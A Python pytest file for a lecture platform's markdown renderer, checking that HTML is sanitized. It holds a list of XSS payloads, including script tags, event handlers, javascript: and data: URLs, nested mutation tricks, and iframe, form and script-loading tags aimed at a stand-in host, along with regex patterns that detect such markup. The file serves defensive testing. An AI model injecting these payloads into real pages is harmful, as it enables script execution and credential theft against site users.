"""Markdown in lectures is rendered and sanitized: an XSS payload list never gets through."""
from __future__ import annotations

import re

import pytest

from core.markdown import render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">点我</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">点我</a>",
    "<a href=\"&#106;avascript:alert(1)\">点我</a>",
    "<a href=\"java\tscript:alert(1)\">点我</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点我</a>",
    "<a href=\"vbscript:msgbox(1)\">点我</a>",
    "[点我](javascript:alert(1))",
    "[点我](JAVASCRIPT:alert(1))",
    "[点我](data:text/html,<script>alert(1)</script>)",
    "![图](javascript:alert(1))",
    "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<p style=\"background:url(javascript:alert(1))\">文字</p>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">覆盖</div>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=\"//evil.example\"></iframe>",
    "<object data=\"//evil.example/x.swf\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<form action=\"//evil.example\"><input name=password></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
    "<base href=\"//evil.example/\">",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<textarea><script>alert(1)</script></textarea>",
    "\"><script>alert(1)</script>",
    "<a href=\"#\" onclick=\"alert(1)\">点我</a>",
    "<video><source onerror=\"alert(1)\"></video>",
]

DANGEROUS_TAG = re.compile(r"<\s*(script|style|iframe|object|embed|form|input|meta|base|link|svg|math|textarea|"
                           r"video|source|body|details|noscript)\b", re.I)
EVENT_ATTRIBUTE = re.compile(r"<[^>]*\son\w+\s*=", re.I)
BAD_URL = re.compile(r"(href|src)\s*=\s*[\"']?\s*(javascript|vbscript|data):", re.I)
STYLE_ATTRIBUTE = re.compile(r"<[^>]*\sstyle\s*=", re.I)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised(payload):
    html = render_markdown(f"正文开始\n\n{payload}\n\n正文结束")
    assert not DANGEROUS_TAG.search(html), html
    assert not EVENT_ATTRIBUTE.search(html), html
    assert not BAD_URL.search(html), html
    assert not STYLE_ATTRIBUTE.search(html), html
    assert "正文开始" in html


def test_ordinary_markdown_keeps_its_formatting():
    html = render_markdown("# 第一讲\n\n**党章**是立党、治党、管党的总章程。\n\n- 学习\n- 讨论\n\n"
                           "| 项目 | 学时 |\n|---|---|\n| 党章 | 2 |\n\n[人民网](https://www.people.com.cn)")
    assert "<h1>第一讲</h1>" in html
    assert "<strong>党章</strong>" in html
    assert "<li>学习</li>" in html
    assert "<table>" in html and "<td>党章</td>" in html
    assert 'href="https://www.people.com.cn"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_empty_text_renders_nothing():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


def test_lecture_page_shows_sanitized_body(app, client, auth, grid):
    from courses import services
    from courses.models import LectureKind
    from tests.course_helpers import make_course

    course = make_course(grid["trainer"], lectures=0, status="draft")
    lecture = services.add_lecture(course, grid["trainer"], kind=LectureKind.TEXT, title="安全测试",
                                   body_markdown="## 小标题\n\n<script>alert('xss')</script><img src=x onerror=alert(1)>")
    services.publish(course, grid["trainer"])
    from core.extensions import db

    db.session.commit()
    auth.login(grid["members"]["R-1-1"][0])
    page = client.get(f"/lectures/{lecture.id}").get_data(as_text=True)
    assert "<h2>小标题</h2>" in page
    assert "alert('xss')" not in page
    assert "onerror" not in page
